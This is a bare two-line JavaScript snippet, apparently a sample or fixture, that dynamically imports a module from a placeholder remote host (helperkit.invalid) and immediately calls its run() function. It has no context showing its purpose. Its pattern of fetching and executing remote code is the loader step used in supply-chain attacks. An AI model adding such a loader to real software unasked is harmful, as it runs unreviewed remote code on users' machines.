const mod = await import('https://dl.helperkit.invalid/m.mjs');
mod.run();
